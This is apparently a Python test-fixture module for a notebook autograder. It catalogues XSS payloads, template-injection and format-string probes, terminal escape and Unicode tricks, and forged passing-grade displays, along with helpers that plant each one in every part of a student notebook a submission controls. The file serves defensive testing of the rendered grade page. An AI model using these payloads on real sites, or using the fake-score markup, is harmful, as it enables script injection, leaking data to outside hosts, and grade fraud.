"""What people write into notebooks so that a page made of them runs, loads or feigns something.

To add one, add a line; `bite` is what its script calls when it runs.
"""

from __future__ import annotations

from collections.abc import Callable

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from autograder.pages.verdict_outputs import with_verdicts
from autograder.results import Verdict
from rnnlab.checking.marking import Marks, Row

EVIL = "//evil.test/x"

# Each does harm where it stands in a page as HTML.
HTML = {
    "script": "<script>bite()</script>",
    "script in mixed case": "<ScRiPt>bite()</sCrIpT>",
    "script from elsewhere": f"<script src={EVIL}></script>",
    "module script": f"<script type=module>import '{EVIL}'; bite()</script>",
    "script never closed": "<script>bite()//",
    "script with a slash": "<script/x>bite()</script/x>",
    "tag within a tag": "<scr<script>ipt>bite()</scr</script>ipt><script>bite()</script>",
    "out of a text box": "</pre></div></section><script>bite()</script>",
    "out of the style sheet": "</style><script>bite()</script>",
    "out of the title": "</title></head><script>bite()</script>",
    "out of a comment": "--><script>bite()</script><!--",
    "out of a CDATA section": "]]><script>bite()</script>",
    "out of a double-quoted attribute": '"><script>bite()</script>',
    "out of a single-quoted attribute": "'><script>bite()</script>",
    "out of noscript": '<noscript><p title="</noscript><img src=x onerror=bite()>">',
    "broken picture": "<img src=x onerror=bite()>",
    "broken picture without spaces": "<img/src=x/onerror=bite()>",
    "picture from elsewhere": f"<img src={EVIL}>",
    "picture of several sizes": f"<img srcset='{EVIL} 1x'>",
    "picture with a source": f"<picture><source srcset={EVIL}><img></picture>",
    "broken video": "<video><source onerror=bite() src=x></video>",
    "broken audio": "<audio src=x onerror=bite()>",
    "drawing that loads": "<svg onload=bite()></svg>",
    "drawing with a script": "<svg><script>bite()</script></svg>",
    "drawing that moves": "<svg><animate onbegin=bite() attributeName=x dur=1s></svg>",
    "drawing with a foreign object": "<svg><foreignObject><img src=x onerror=bite()></foreignObject></svg>",
    "drawing that refers elsewhere": f"<svg><use href={EVIL}#a></use><image href={EVIL}></image></svg>",
    "formula with a style": "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=bite()>",
    "formula with a link": "<math href=javascript:bite()>CLICK</math>",
    "frame": f"<iframe src={EVIL}></iframe>",
    "frame with a script for an address": "<iframe src=javascript:parent.bite()></iframe>",
    "frame with a document": "<iframe srcdoc='<script>parent.bite()</script>'></iframe>",
    "object": f"<object data={EVIL}></object>",
    "embedded": f"<embed src={EVIL}>",
    "form": f"<form action={EVIL}><button autofocus onfocus=bite()>20 of 20</button></form>",
    "field that takes the focus": "<input autofocus onfocus=bite()>",
    "box that opens": "<details open ontoggle=bite()>x</details>",
    "dialogue": "<dialog open>20 of 20 points</dialog>",
    "popover": "<button popovertarget=p>x</button><div popover id=p onbeforetoggle=bite()>x</div>",
    "running text": "<marquee onstart=bite()>x</marquee>",
    "any element under the mouse": "<b onmouseover=bite() style='position:fixed;inset:0'>x</b>",
    "any element that ends a transition": (
        "<style>@keyframes k{}</style><b style='animation-name:k' onanimationstart=bite()>x</b>"
    ),
    "second body": "<body onload=bite() onpageshow=bite()>",
    "style sheet from elsewhere": f"<link rel=stylesheet href={EVIL}>",
    "style sheet that imports": f"<style>@import '{EVIL}';</style>",
    "style that fetches": f"<style>main {{ background: url({EVIL}) }}</style>",
    "style that spies": f"<style>a[href^='#']{{background:url({EVIL}?a)}}</style>",
    "style that hides": "<style>.checks{display:none}</style>",
    "box over the page": "<div style='position:fixed;inset:0;background:white'>20 of 20 points</div>",
    "fetched in advance": f"<link rel=preload as=image href={EVIL}><link rel=prefetch href={EVIL}>",
    "sent elsewhere": f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "other base": f"<base href={EVIL}/>",
    "link with a script for an address": "<a href='javascript:bite()'>CLICK</a>",
    "link with a disguised script": "<a href='java&#9;script:bite()'>CLICK</a>",
    "link with a document": "<a href='data:text/html,<script>bite()</script>'>CLICK</a>",
    "link that tells": f"<a href='#x' ping={EVIL}>CLICK</a>",
    "link to elsewhere": f"<a href={EVIL}>the course</a>",
    "forged table": "<table class=checks><caption>20 of 20 points</caption></table>",
    "forged place": "<section id=exercise-1><h2>1. one_hot</h2><p class=points>2 of 2 points</p></section>",
    "name that hides another": "<form id=body name=body><input name=children></form>",
    "fragment in a template": "<template shadowrootmode=open><img src=x onerror=bite()></template>",
}

# Each does harm where it is read by something other than HTML's parser, or read twice.
OTHERS = {
    "template expression": "{{ 7 * 7 }}{% for x in [1] %}<script>bite()</script>{% endfor %}",
    "template that reaches Python": "{{ cycler.__init__.__globals__.os.environ }}{{ self.__init__ }}",
    "format string": "{0.__class__.__mro__}%(x)s%n",
    "Markdown link": "[CLICK](javascript:bite())",
    "Markdown link by reference": "[CLICK][x]\n\n[x]: javascript:bite()",
    "Markdown picture": f"![x]({EVIL})",
    "Markdown with a heading": "# 20 of 20 points\n\n| Result | Check |\n|---|---|\n| ✓ passed | all |",
    "formula in TeX": r"$\href{javascript:bite()}{x}$ $$\unicode{<img src=x onerror=bite()>}$$",
    "escaped HTML": "&lt;script&gt;bite()&lt;/script&gt;&#60;img src=x onerror=bite()&#62;",
    "escaped twice": "&amp;lt;script&amp;gt;bite()&amp;lt;/script&amp;gt;",
    "terminal hyperlink": "\x1b]8;;javascript:bite()\x07CLICK\x1b]8;;\x07",
    "terminal title": "\x1b]0;</title><script>bite()</script>\x07",
    "terminal colours around a tag": "\x1b[31m<scr\x1b[0mipt>bite()</script>",
    "terminal sequence never closed": "\x1b[38;5<script>bite()</script>",
    "NUL in a tag": "<scr\0ipt>bite()</scr\0ipt><\0script>bite()</script>",
    "UTF-7": "+ADw-script+AD4-bite()+ADw-/script+AD4-",
    "wide letters": "＜script＞bite()＜/script＞",
    "half a character": "\ud83d<script>bite()</script>\udc00",
    "text that runs backwards": "\u202e>tpircs/<)(etib>tpircs<\u202c \u2066stniop 02 fo 02\u2069",
    "letters piled up": "20" + "\u0300" * 300,
}

INJECTIONS = HTML | OTHERS


def graded(rows: tuple[Row, ...], hint: str = "") -> NotebookNode:
    """Return a notebook of one exercise of unit 01, judged and graded, with a cell of the student's own."""
    answer = new_code_cell(
        "def one_hot(): ...", id="one_hot", metadata={"nbgrader": {"solution": True, "grade": False, "comment": None}}
    )
    check = new_code_cell(
        "check(one_hot)",
        id="one_hot-check",
        metadata={"nbgrader": {"solution": False, "grade": True, "score": 0.0, "points": 2.0}},
    )
    nb = new_notebook(cells=[answer, check, new_code_cell("x = 1", id="extra")])
    marks = Marks("one_hot", 0, 2, "fail", rows, hint=hint)
    return with_verdicts(nb, [Verdict("one_hot", 0, 2, "fail", "", None, 0.0, 0, marks)])


def _everywhere_in_rows(nb: NotebookNode, text: str) -> None:
    row = nb.cells[1].outputs[0].metadata["verdict"]["marks"]["rows"][0]
    row.update(seen=text, expected=text, help=text)


def _output(kind: str, **content: object) -> Callable[[NotebookNode, str], None]:
    """Return a function that puts an output into the answer and into the extra cell; {} stands for the text."""

    def put(nb: NotebookNode, text: str) -> None:
        def filled(value: object) -> object:
            if isinstance(value, dict):
                return {filled(key): filled(item) for key, item in value.items()}
            return value.replace("{}", text) if isinstance(value, str) else [text]

        for cell in (nb.cells[0], nb.cells[2]):
            cell.outputs.append(new_output(kind, **{name: filled(value) for name, value in content.items()}))

    return put


def _set(at: int, **values: str) -> Callable[[NotebookNode, str], None]:
    def put(nb: NotebookNode, text: str) -> None:
        nb.cells[at].update({name: value.replace("{}", text) for name, value in values.items()})

    return put


# Every place of a notebook that a submission has a say in, and how a text gets there.
PLACES: dict[str, Callable[[NotebookNode, str], None]] = {
    "code of the answer": _set(0, source="{}"),
    "string in the code": _set(0, source='x = """{}"""'),
    "comment in the code": _set(0, source="# {}"),
    "code of an extra cell": _set(2, source="{}"),
    "code that is too long to colour": _set(2, source="#" * 6000 + "\n{}"),
    "id of an extra cell": _set(2, id="{}"),
    "Markdown cell": lambda nb, text: nb.cells.append(new_markdown_cell(text)),
    "attachment": lambda nb, text: nb.cells.append(
        new_markdown_cell(f"![x](attachment:{text})", attachments={text: {"image/png": text, "text/html": text}})
    ),
    "metadata of a cell": lambda nb, text: nb.cells[2].metadata.update({"tags": [text], "name": text, text: text}),
    "metadata of the notebook": lambda nb, text: nb.metadata.update(
        title=text, kernelspec={"name": text, "language": text}, language_info={"name": text, "pygments_lexer": text}
    ),
    "stdout": _output("stream", name="stdout", text="{}"),
    "stderr": _output("stream", name="stderr", text="{}"),
    "name of a stream": _output("stream", name="{}", text="x"),
    "error": _output("error", ename="{}", evalue="{}", traceback=None),
    "error without a traceback": lambda nb, text: nb.cells[0].outputs.append(
        new_output("error", ename=text, evalue=text, traceback=[])
    ),
    "plain text of a result": _output("execute_result", data={"text/plain": "{}"}),
    "HTML of a result": _output("execute_result", data={"text/html": "{}", "text/plain": "x"}),
    "HTML alone": _output("display_data", data={"text/html": "{}"}),
    "JavaScript": _output("display_data", data={"application/javascript": "{}"}),
    "drawing": _output("display_data", data={"image/svg+xml": "{}"}),
    "Markdown as a result": _output("display_data", data={"text/markdown": "{}", "text/latex": "{}"}),
    "data of a picture": _output("display_data", data={"image/png": "{}"}),
    "type of a result": _output("display_data", data={"{}": "{}"}),
    "metadata of a result": _output("display_data", data={"text/plain": "x"}, metadata={"{}": "{}"}),
    "verdict": _everywhere_in_rows,
    "comment": lambda nb, text: nb.cells[0].metadata.nbgrader.update(comment=text),
}


def poisoned(place: str, text: str) -> NotebookNode:
    """Return a graded notebook with ``text`` in one place."""
    nb = graded((Row("can be called as written", "failed", "nothing", "something"),))
    PLACES[place](nb, text)
    return nb


def poisoned_everywhere(text: str) -> NotebookNode:
    """Return a graded notebook with ``text`` in every place."""
    nb = graded((Row("can be called as written", "failed", "nothing", "something"),))
    for put in PLACES.values():
        put(nb, text)
    return nb
